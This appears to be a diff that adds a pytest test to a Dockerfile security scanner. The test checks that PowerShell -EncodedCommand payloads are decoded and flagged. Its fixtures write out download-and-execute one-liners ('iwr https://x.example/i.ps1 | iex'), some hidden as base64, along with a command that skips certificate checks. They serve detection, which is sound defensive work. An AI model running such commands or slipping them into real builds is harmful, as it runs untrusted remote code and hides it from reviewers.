@@ -3,6 +3,8 @@ world-writable, DKR017 tls-verification-disabled."""
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from tests.checks.dockerfile import scan_dockerfile
@@ -356,3 +358,38 @@ def test_tls_verification_disabled_in_powershell(tmp_path):
         "DKR017",
     )
     assert lines_of(result, "DKR017") == [4, 6, 7, 8, 9, 15, 17]
+
+
+def _encoded(script: str) -> str:
+    """The script as `powershell -EncodedCommand` takes it: base64 of its UTF-16LE text."""
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+def test_the_script_of_powershell_encoded_command_is_read(tmp_path):
+    """`-EncodedCommand` (`-enc`, `-e`, `-ec`, any prefix, in any case) gives the script as
+    base64 of UTF-16LE text: decoded, it is read as a `-Command` script is (`-c`, `-co`,
+    `-Comm` abbreviate that); text that is not such base64, or decodes to too much, is not."""
+    download = _encoded("iwr https://x.example/i.ps1 -UseBasicParsing | iex")
+    result = scan_dockerfile(
+        tmp_path,
+        f"""
+        FROM mcr.microsoft.com/powershell:7.4-ubuntu-22.04
+        RUN powershell -EncodedCommand {download}
+        RUN pwsh -NoProfile -enc {download}
+        RUN powershell.exe -e {download}
+        RUN pwsh -EC {download}
+        RUN pwsh -ENCODEDCOM {download}
+        RUN pwsh -ex Bypass -co "iwr https://x.example/i.ps1 | iex"
+        RUN pwsh -Comm "iwr https://x.example/i.ps1 | iex"
+        RUN pwsh -e {_encoded("iwr https://x.example/a -SkipCertificateCheck -OutFile a")}
+        RUN pwsh -e {_encoded("Write-Host 'iwr https://x.example/i.ps1 | iex'")}
+        RUN pwsh -e {base64.b64encode(b"iwr https://x.example/i.ps1 | iex").decode()}
+        RUN pwsh -e {download[:-4]}!!!!
+        RUN pwsh -e {_encoded("iwr https://x.example/i.ps1 | iex #" + "x" * 33_000)}
+        RUN pwsh -ex {download}
+        """,
+        "DKR008",
+        "DKR017",
+    )
+    assert lines_of(result, "DKR008") == [2, 3, 4, 5, 6, 7, 8]
+    assert lines_of(result, "DKR017") == [9]
